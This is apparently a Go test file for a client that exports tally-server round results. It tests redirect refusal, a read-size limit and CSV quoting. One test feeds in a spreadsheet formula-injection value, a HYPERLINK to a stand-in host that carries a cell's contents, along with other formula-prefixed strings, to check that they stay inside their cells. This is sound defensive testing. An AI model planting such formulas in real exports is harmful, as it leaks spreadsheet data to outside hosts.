package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// outcomeServer serves rounds as a tally server's results API does.
func outcomeServer(t *testing.T, rounds []Round) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	var list []map[string]string
	for _, r := range rounds {
		b, err := json.Marshal(r.Outcome)
		if err != nil {
			t.Fatal(err)
		}
		list = append(list, map[string]string{"name": r.Name})
		mux.HandleFunc("GET /api/v1/rounds/"+r.Name, func(w http.ResponseWriter, _ *http.Request) { w.Write(b) })
	}
	mux.HandleFunc("GET /api/v1/rounds", func(w http.ResponseWriter, _ *http.Request) { json.NewEncoder(w).Encode(list) })
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

func clientContext(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	return ctx
}

// The client reads what the server it was given serves: a redirect within
// that server is followed, one to another server is refused, since what
// came back would then be another server's word under this one's name.
func TestClientStaysOnItsServer(t *testing.T) {
	ctx := clientContext(t)
	good := outcomeServer(t, sampleRounds(2))
	other := outcomeServer(t, sampleRounds(3))
	mux := http.NewServeMux()
	mux.HandleFunc("GET /old/{name}", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/api/v1/rounds/"+r.PathValue("name"), http.StatusFound)
	})
	mux.HandleFunc("GET /api/v1/rounds/{name}", func(w http.ResponseWriter, r *http.Request) {
		if r.PathValue("name") == "latest" {
			http.Redirect(w, r, other.URL+"/api/v1/rounds/relays-000003", http.StatusFound)
			return
		}
		http.Redirect(w, r, good.URL+r.URL.Path, http.StatusFound)
	})
	redirecting := httptest.NewServer(mux)
	defer redirecting.Close()

	if o, err := (Client{}).Outcome(ctx, good.URL+"/api/v1/rounds/relays-000002"); err != nil || o.Round != 2 {
		t.Fatalf("plain fetch: %v", err)
	}
	// A redirect on the same server is followed.
	self := http.NewServeMux()
	selfSrv := httptest.NewServer(self)
	defer selfSrv.Close()
	b, _ := json.Marshal(sampleRound(1).Outcome)
	self.HandleFunc("GET /api/v1/rounds/relays-000001", func(w http.ResponseWriter, _ *http.Request) { w.Write(b) })
	self.HandleFunc("GET /old/{name}", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/api/v1/rounds/"+r.PathValue("name"), http.StatusFound)
	})
	if o, err := (Client{}).Outcome(ctx, selfSrv.URL+"/old/relays-000001"); err != nil || o.Round != 1 {
		t.Errorf("a redirect within the server: %v", err)
	}
	for _, u := range []string{redirecting.URL + "/api/v1/rounds/latest", redirecting.URL + "/api/v1/rounds/relays-000001"} {
		_, err := Client{}.Outcome(ctx, u)
		if err == nil || !strings.Contains(err.Error(), "redirect") {
			t.Errorf("GET %s, redirected to another server: %v, want an error saying so", u, err)
		}
	}
	if _, err := (Client{Base: redirecting.URL}).Round(ctx, "latest"); err == nil {
		t.Error("Round(latest) followed a redirect to another server")
	}
}

// Reading every round of a server stops at MaxBytes in all, so a server
// listing endless rounds cannot make the client hold them all.
func TestClientBoundsWhatItReads(t *testing.T) {
	ctx := clientContext(t)
	srv := outcomeServer(t, sampleRounds(20))
	rounds, err := Client{Base: srv.URL}.Rounds(ctx)
	if err != nil || len(rounds) != 20 {
		t.Fatalf("%d rounds, %v", len(rounds), err)
	}
	one, _ := json.Marshal(sampleRound(1).Outcome)
	_, err = Client{Base: srv.URL, MaxBytes: int64(5 * len(one))}.Rounds(ctx)
	if err == nil || !strings.Contains(err.Error(), "bytes") {
		t.Errorf("20 rounds under a limit of about 5: %v, want an error naming the limit", err)
	}
}

// TestCSVKeepsHostileNamesInTheirCells: names a forged outcome carries
// (quotes, commas, line breaks, a spreadsheet formula) stay inside their
// own cells and come back as written: the CSV neither breaks its quoting
// nor rewrites a value (docs/results.md, "Trust", on formulas).
func TestCSVKeepsHostileNamesInTheirCells(t *testing.T) {
	r := sampleRound(1)
	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "a,b\n\"c\"\nd", "@SUM(1+1)", "-2+3"}
	r.Outcome.Series = hostile[0]
	r.Outcome.Statistics[1].Name = hostile[1]
	r.Outcome.Statistics[1].Bins[0].Label = hostile[2]
	r.Outcome.Statistics[1].Bins[1].Label = hostile[3]
	var buf bytes.Buffer
	if err := WriteCSV(&buf, []Round{r}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+6 {
		t.Fatalf("%d rows, want a header and 6", len(rows))
	}
	for _, row := range rows[1:] {
		if len(row) != len(CSVHeader) || row[0] != hostile[0] {
			t.Errorf("row %q: series cell not as written", row)
		}
	}
	if rows[2][4] != hostile[1] || rows[2][5] != hostile[2] || rows[3][5] != hostile[3] {
		t.Errorf("rows %q and %q do not hold the names as written", rows[2], rows[3])
	}
}
